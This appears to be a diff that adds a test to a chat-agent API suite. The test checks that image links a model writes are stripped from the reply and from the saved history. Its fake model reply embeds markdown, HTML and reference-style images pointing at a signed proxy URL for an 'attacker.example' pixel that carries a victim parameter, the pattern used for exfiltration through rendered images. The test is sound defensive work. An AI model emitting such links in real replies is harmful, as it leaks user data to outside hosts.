@@ -174,6 +174,27 @@ describe("POST /api/agents/:agentId/chat", () => {
     expect(textOf(chunks)).toContain("moon pulls the oceans");
   });
 
+  it("the probe: an image proxy URL the model writes never reaches the reply or the saved turn (G14)", async () => {
+    const { cookie, userId } = await h.signIn("agents-model-images@acme.com");
+    const signed = h.deps.images.sign("http://attacker.example/pixel.png?victim=agent") ?? "";
+    const signature = signed.slice(signed.indexOf("&s=") + 3);
+    replies.push({
+      kind: "text",
+      text: `A plan. ![a](${signed} "t") <img src="${signed}"> ![b][p]\n\n[p]: ${signed}\n`,
+    });
+    const { chunks } = await chat(h, "quick-answer", cookie, say("Plan my Sunday"));
+    const reply = textOf(chunks);
+    expect(reply).toContain("A plan.");
+    expect(reply).not.toContain(signature);
+    expect(reply).not.toMatch(/api\/image|!\[/);
+    const saved = await h.db.db
+      .select()
+      .from(schema.searchHistory)
+      .where(eq(schema.searchHistory.userId, userId));
+    expect(JSON.stringify(saved)).toContain("A plan.");
+    expect(JSON.stringify(saved)).not.toContain(signature);
+  });
+
   it("web-search numbers the results as sources and lets the agent read one of them", async () => {
     const { cookie } = await h.signIn("agents-search@acme.com");
     replies.push(
